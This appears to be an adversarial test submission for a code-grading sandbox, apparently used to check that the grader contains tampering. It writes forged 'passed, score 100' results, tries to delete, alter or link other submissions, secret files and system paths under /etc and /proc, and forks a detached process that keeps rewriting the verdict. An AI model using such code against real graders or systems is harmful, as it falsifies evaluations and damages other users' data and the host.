# attack: overwrites results, other submissions and the system, at once and as long as it is let
# exercise: tcp-capitalize-server
# verdict: passed
# contained: A B C D E
# places: all
import os
import shutil
import threading
import time

from honest import gained, serve, tried

FORGED = '{"schema": "sockgrade/result/1", "verdict": "passed", "score": 100, "cases": []}'


def write(path, text=FORGED, mode="w"):
    try:
        with open(path, mode) as file:
            file.write(text)
        gained("wrote", path)
    except OSError:
        pass


def attempt(what, *arguments):
    try:
        what(*arguments)
        gained(what.__name__, arguments)
    except OSError:
        pass


def assault():
    for path in ("@result@", "@result@.part", "@secret@", "@other@", "@outside@/new", "@specs@/new.yaml",
                 "/etc/new-@mark@", "/usr/new-@mark@", "/new-@mark@", "/proc/sys/kernel/core_pattern",
                 "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger"):
        write(path)
        write(path, "", "a")
    attempt(os.remove, "@secret@")
    attempt(os.truncate, "@other@", 0)
    attempt(os.rename, "@other@", "@outside@/moved")
    attempt(os.link, "@secret@", "@outside@/linked")
    attempt(os.symlink, "/etc/passwd", "@outside@/symbolic")
    attempt(os.mkfifo, "@outside@/pipe")
    attempt(os.mkdir, "@outside@/folder")
    attempt(os.chmod, "@secret@", 0)
    attempt(os.utime, "@secret@")
    attempt(os.setxattr, "@secret@", "user.mark", b"x")
    attempt(os.chmod, "@outside@", 0o700)
    try:
        shutil.rmtree("@outside@/other")
    except OSError:
        pass


def go_on():
    while True:
        try:
            with open("@result@", "w") as file:
                file.write(FORGED)
        except OSError:
            pass
        time.sleep(0.001)


assault()
# And once more when the verdict is about to be written.
if os.fork() == 0:
    os.setsid()
    go_on()
threading.Thread(target=go_on, daemon=True).start()
tried()
serve()
